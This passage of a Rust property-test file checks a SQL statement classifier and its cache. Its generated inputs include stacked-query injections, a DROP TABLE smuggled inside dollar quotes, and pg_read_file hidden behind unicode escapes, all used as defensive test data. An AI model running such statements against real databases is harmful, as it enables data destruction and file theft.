        "INSERT INTO orders (a, b) VALUES ({}, {}) RETURNING *",
        "UPDATE orders SET a = {} WHERE b = {}",
        "DELETE FROM orders WHERE a = {} OR a = {}",
        "SELECT {} ; DELETE FROM orders WHERE a = {}",
        "WITH d AS (DELETE FROM orders WHERE a = {} RETURNING *) SELECT {} FROM d",
        // A comment is not a constant: its text stays fixed (a generated
        // literal could close it).
        "SELECT pg_read_file({}) /* 'quoted' is not here */, {}",
        "SELECT length({}) FROM orders ORDER BY {} FOR UPDATE",
        "PREPARE p AS SELECT * FROM orders WHERE a = {} AND b = {}",
        "EXPLAIN SELECT {} FROM orders WHERE a IN ({}, {})",
        "EXPLAIN ANALYZE UPDATE orders SET a = {} WHERE b = {}",
        "CALL proc({}, {})",
        "CREATE TABLE t (a text DEFAULT {}, b int CHECK (b > {}))",
        "SELECT CASE WHEN a = {} THEN {} ELSE {} END FROM orders",
        "SELECT * FROM orders WHERE note LIKE {} ESCAPE {}",
        "COPY (SELECT {}, {} FROM orders) TO STDOUT",
        "SELECT set_config({}, {}, false)",
    ];

    /// Templates whose slots take strings only (the grammar wants one).
    const STRING_TEMPLATES: &[&str] = &[
        "COPY orders FROM {}",
        "COPY orders TO {}",
        "SET ROLE {}",
        "SET search_path = {}",
        "SET standard_conforming_strings = {}",
        "SET client_encoding = {}",
        "DO {}",
        "NOTIFY ch, {}",
        "EXPLAIN (ANALYZE {}) DELETE FROM orders",
        "SET SESSION AUTHORIZATION {}",
    ];

    fn render(template: &str, values: &[String]) -> String {
        let mut out = String::new();
        let mut rest = template;
        let mut i = 0;
        while let Some(pos) = rest.find("{}") {
            out.push_str(&rest[..pos]);
            out.push_str(values.get(i).map(String::as_str).unwrap_or("1"));
            i += 1;
            rest = &rest[pos + 2..];
        }
        out.push_str(rest);
        out
    }

    /// Two texts whose keys are equal classify alike, directly and through
    /// the cache, unless their key's construct is constant-sensitive (then
    /// both are, and neither is cached).
    fn assert_alike(a: &str, b: &str) -> Result<(), TestCaseError> {
        let (ca, cb) = (classify(a), classify(b));
        match (&ca, &cb) {
            (Ok(x), Ok(y)) if !x.constant_sensitive() => prop_assert_eq!(x, y, "{:?} / {:?}", a, b),
            (Ok(x), Ok(y)) => prop_assert!(y.constant_sensitive() && x.constant_sensitive()),
            // Only a constant-sensitive construct may turn on a value (e.g.
            // SET standard_conforming_strings = 'off' is refused).
            (Err(_), Ok(y)) => prop_assert!(y.constant_sensitive(), "{a:?} failed, {b:?} did not"),
            (Ok(x), Err(_)) => prop_assert!(x.constant_sensitive(), "{b:?} failed, {a:?} did not"),
            (Err(_), Err(_)) => {}
        }
        // Through the cache, the second text gets what it would get alone.
        let cache = ClassificationCache::default();
        let _ = cache.classify(a);
        let via_cache = cache.classify(b).map(|c| (*c).clone());
        prop_assert_eq!(via_cache, cb);
        Ok(())
    }

    /// The characters the generated `U&` texts use as escape characters.
    const ESCAPES: &[char] = &['\\', '!', '#', '*'];

    /// ` UESCAPE 'c'`, or nothing for the default escape character.
    fn uescape(escape: Option<char>) -> String {
        escape.map_or_else(String::new, |c| format!(" UESCAPE '{c}'"))
    }

    /// An escape character of [`ESCAPES`], or none (the default, `\`).
    fn escape_choice() -> impl Strategy<Value = Option<char>> {
        prop_oneof![Just(None), prop::sample::select(ESCAPES).prop_map(Some)]
    }

    /// One name spelled for two texts: plain, quoted, or `U&"..."` with some
    /// characters written as escapes. A `U&` spelling is shared by both
    /// texts up to its `UESCAPE` character, which each text picks on its
    /// own: the same tokens then name different things (`!0070g_read_file`
    /// is `pg_read_file` only when `!` is the escape character).
    fn name_pair() -> impl Strategy<Value = (String, String)> {
        (
            prop::sample::select(&["pg_read_file", "lower", "orders", "secret", "d", "p"][..]),
            0..3u8,
            prop::sample::select(ESCAPES),
            prop::collection::vec(any::<bool>(), 12),
            escape_choice(),
            escape_choice(),
        )
            .prop_map(|(name, form, written, mask, a, b)| {
                let body: String = name
                    .chars()
                    .zip(mask.iter().chain(std::iter::repeat(&false)))
                    .map(|(c, &escaped)| {
                        if escaped {
                            format!("{written}{:04X}", u32::from(c))
                        } else {
                            c.to_string()
                        }
                    })
                    .collect();
                match form {
                    0 => (name.to_owned(), name.to_owned()),
                    1 => (format!("\"{name}\""), format!("\"{name}\"")),
                    _ => (
                        format!("U&\"{body}\"{}", uescape(a)),
                        format!("U&\"{body}\"{}", uescape(b)),
                    ),
                }
            })
    }

    /// A string constant with unicode escapes, valid for the escape
    /// character it declares.
    fn unicode_string(escape: Option<char>) -> impl Strategy<Value = String> {
        let e = escape.unwrap_or('\\');
        prop::collection::vec(
            prop_oneof![
                content().prop_map(move |s| s.replace(e, &format!("{e}{e}")).replace('\'', "''")),
                any::<char>()
                    .prop_filter("a character U& can write", |c| *c != '\0')
                    .prop_map(move |c| format!("{e}+{:06X}", u32::from(c))),
                "[a-zA-Z]".prop_map(move |c| {
                    let c = c.chars().next().unwrap_or('a');
                    format!("{e}{:04X}", u32::from(c))
                }),
            ],
            0..4,
        )
        .prop_map(move |parts| format!("U&'{}'{}", parts.concat(), uescape(escape)))
    }

    /// A dollar-quoted string whose body holds other tags and quotes.
    fn dollar_string() -> impl Strategy<Value = String> {
        (
            prop::sample::select(&["", "a", "b_c"][..]),
            prop::collection::vec(
                prop_oneof![
                    content().prop_map(|s| s.replace('$', "")),
                    Just(" $z$ ".to_owned()),
                    Just(" $q$ ; DROP TABLE orders; $q$ ".to_owned()),
                    Just("' /* -- ".to_owned()),
                ],
                0..4,
            ),
        )
            .prop_map(|(tag, parts)| {
                let mut body = parts.concat();
                if !tag.is_empty() {
                    body.push_str(" $$ ");
                }
                format!("${tag}${body}${tag}$")
            })
    }

    /// Two string constants for the same slot, and whether their escape
    /// characters are the same (they are for the forms that have none).
    fn escaped_string_pair() -> impl Strategy<Value = (String, String, bool)> {
        prop_oneof![
            (escape_choice(), escape_choice()).prop_flat_map(|(a, b)| {
                (unicode_string(a), unicode_string(b)).prop_map(move |(x, y)| (x, y, a == b))
            }),
            (dollar_string(), dollar_string()).prop_map(|(x, y)| (x, y, true)),
            literal_pair().prop_map(|(x, y)| (x, y, true)),
        ]
    }

    /// A comment: nested block comments, line comments, none.
    fn comment() -> impl Strategy<Value = String> {
        prop::collection::vec(
            prop_oneof![
                Just(String::new()),
                Just("/* /* */ */".to_owned()),
                Just("/* a /* b /* c */ */ ' $$ */".to_owned()),
                Just("/**/".to_owned()),
                content().prop_map(|s| format!("/* {} */", s.replace("*/", "").replace("/*", ""))),
                content().prop_map(|s| format!("-- {}\n", s.replace(['\n', '\r'], " "))),
            ],
            0..3,
        )
        .prop_map(|parts| parts.join(" "))
    }

    /// Templates with `{n}` for a name, `{s}` for a string constant and
    /// `{c}` for a comment.
    const ESCAPE_TEMPLATES: &[&str] = &[
        "SELECT {n}({s}) {c} FROM {n} WHERE note = {s}",
        "SELECT * FROM {n} {c} JOIN {n} ON {n}({s}) = {s}",
        "WITH {n} AS (SELECT {s}) SELECT * FROM {n} {c}",
        "DELETE FROM {n} WHERE {n}({s}) {c} IS NULL",
        "PREPARE {n} AS SELECT {n}({s}); EXECUTE {n}",
        "SELECT {s} {c}, {s} ; SELECT {n}() {c}",
        "CREATE TABLE {n} (a text DEFAULT {n}({s}))",
        "COPY (SELECT {n}({s})) TO STDOUT",
        "SELECT pg_catalog.{n}({s}) {c} FROM public.{n}",
        "{c} UPDATE {n} SET a = {s} FROM {n} WHERE {n}() {c}",
    ];

    fn render_slots(template: &str, names: &[String], strings: &[String], comments: &[String]) -> String {
        let (mut n, mut s, mut c) = (names.iter(), strings.iter(), comments.iter());
        let mut out = String::new();
        let mut rest = template;
        while let Some(pos) = rest.find('{') {
            out.push_str(&rest[..pos]);
            let slot = match rest.get(pos..pos + 3) {
                Some("{n}") => n.next(),
                Some("{s}") => s.next(),
                _ => c.next(),
            };
            out.push_str(slot.map_or("x", String::as_str));
            rest = &rest[pos + 3..];
        }
        out.push_str(rest);
        out
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

        /// Same template, constants of the same kinds: the keys are equal,
        /// and the classifications too.
        #[test]
        fn texts_sharing_a_key_classify_alike(
            t in 0..TEMPLATES.len(),
            pairs in prop::collection::vec(literal_pair(), 3),
        ) {
            let a: Vec<String> = pairs.iter().map(|p| p.0.clone()).collect();
            let b: Vec<String> = pairs.iter().map(|p| p.1.clone()).collect();
            let (a, b) = (render(TEMPLATES[t], &a), render(TEMPLATES[t], &b));
            let key = cache_key(&a);
            prop_assert!(key.is_some(), "{a:?} should scan");
            prop_assert_eq!(&key, &cache_key(&b), "keys of {:?} and {:?}", a, b);
            assert_alike(&a, &b)?;
        }

        #[test]
        fn string_slots_sharing_a_key_classify_alike(t in 0..STRING_TEMPLATES.len(), (a, b) in string_pair()) {
            let (a, b) = (render(STRING_TEMPLATES[t], &[a]), render(STRING_TEMPLATES[t], &[b]));
            prop_assert_eq!(cache_key(&a), cache_key(&b), "keys of {:?} and {:?}", a, b);
            assert_alike(&a, &b)?;
        }

        /// Constants of any kinds: whenever the keys happen to be equal, the
        /// classifications are.
        #[test]
        fn equal_keys_mean_equal_classes(
            t in 0..TEMPLATES.len(),
            a in prop::collection::vec(literal(), 3),
            b in prop::collection::vec(literal(), 3),
        ) {
            let (a, b) = (render(TEMPLATES[t], &a), render(TEMPLATES[t], &b));
            if cache_key(&a).is_some() && cache_key(&a) == cache_key(&b) {
                assert_alike(&a, &b)?;
            }
        }

        /// Unicode escapes in names and strings, with and without UESCAPE,
        /// nested comments and dollar quotes: two texts with the same key
        /// classify alike, and through the cache as alone. With the same
        /// escape characters, the keys are the same.
        #[test]
        fn escapes_comments_and_dollar_quotes_sharing_a_key_classify_alike(
            t in 0..ESCAPE_TEMPLATES.len(),
            names in prop::collection::vec(name_pair(), 5),
            strings in prop::collection::vec(escaped_string_pair(), 3),
            comments in prop::collection::vec((comment(), comment()), 2),
        ) {
            let template = ESCAPE_TEMPLATES[t];
            let pick = |side: fn(&(String, String)) -> &String| names.iter().map(side).cloned().collect::<Vec<_>>();
            let (names_a, names_b) = (pick(|p| &p.0), pick(|p| &p.1));
            let strings_a: Vec<String> = strings.iter().map(|p| p.0.clone()).collect();
            let strings_b: Vec<String> = strings.iter().map(|p| p.1.clone()).collect();
            let comments_a: Vec<String> = comments.iter().map(|p| p.0.clone()).collect();
            let comments_b: Vec<String> = comments.iter().map(|p| p.1.clone()).collect();
            let a = render_slots(template, &names_a, &strings_a, &comments_a);
            let b = render_slots(template, &names_b, &strings_b, &comments_b);
            let key = cache_key(&a);
            prop_assert!(key.is_some(), "{a:?} should scan");
            if names_a == names_b && strings.iter().all(|p| p.2) {
                prop_assert_eq!(&key, &cache_key(&b), "keys of {:?} and {:?}", a, b);
            }
            if key == cache_key(&b) {
                assert_alike(&a, &b)?;
            }
            // A text primed by itself gets what it gets alone.
            let cache = ClassificationCache::default();
            let _ = cache.classify(&a);
            prop_assert_eq!(cache.classify(&a).map(|c| (*c).clone()), classify(&a));
        }

        #[test]
        fn arbitrary_text_never_panics(sql in any::<String>()) {
            let _ = classify(&sql);
            let _ = cache_key(&sql);
        }

        #[test]
        fn sql_like_token_soup_never_panics(parts in prop::collection::vec(prop_oneof![
            Just("SELECT"), Just("FROM"), Just("WHERE"), Just("WITH"), Just("AS"), Just("("), Just(")"),
            Just(","), Just(";"), Just("DELETE"), Just("INSERT INTO"), Just("VALUES"), Just("t"), Just("s.t"),
            Just("f(x)"), Just("pg_read_file('a')"), Just("'lit'"), Just("$$d$$"), Just("1"), Just("="),
            Just("EXPLAIN"), Just("ANALYZE"), Just("PREPARE p AS"), Just("EXECUTE p"), Just("FOR UPDATE"),
            Just("COPY"), Just("TO"), Just("STDOUT"), Just("UNION"), Just("LATERAL"), Just("JOIN"), Just("ON"),
            Just("RETURNING *"), Just("SET"), Just("ROLE"), Just("CREATE TABLE"), Just("INTO"), Just("*"),
        ], 0..24)) {
            let sql = parts.join(" ");
            let _ = classify(&sql);
            let _ = cache_key(&sql);
        }
    }
}

#[test]
#[ignore = "timing probe, run by hand with --release"]
fn timing_probe() {
    let sql = "SELECT abalance FROM pgbench_accounts WHERE aid = 48213;";
    let n = 20_000;
    let t = std::time::Instant::now();
    for _ in 0..n {
        let _ = cache_key(sql);
    }
    println!("cache_key: {:?}", t.elapsed() / n);
    let t = std::time::Instant::now();
    for _ in 0..n {
        let _ = classify(sql);
    }
    println!("classify: {:?}", t.elapsed() / n);
    let cache = ClassificationCache::default();
    let t = std::time::Instant::now();
    for i in 0..n {
        let _ = cache.classify(&format!("SELECT abalance FROM pgbench_accounts WHERE aid = {i};"));
    }
    println!("cached: {:?} {:?}", t.elapsed() / n, cache.stats());
    for depth in [50, 100, 200, 1000, 4_000, 10_000] {
        let nested = format!("SELECT {}1{}", "(".repeat(depth), ")".repeat(depth));
        let chain = format!("SELECT 1{}", " + 1".repeat(depth));
        let subq = format!("SELECT {}1{}", "(SELECT ".repeat(depth), ")".repeat(depth));
        println!(
            "depth {depth}: parens {:?} chain {:?} subqueries {:?}",
            classify(&nested).map(|c| c.operations()),
            classify(&chain).map(|c| c.operations()).map_err(|e| e
                .to_string()
                .chars()
                .take(80)
                .collect::<String>()),
            classify(&subq).map(|c| c.operations()).map_err(|e| e
                .to_string()
                .chars()
                .take(80)
                .collect::<String>())
        );
    }
}
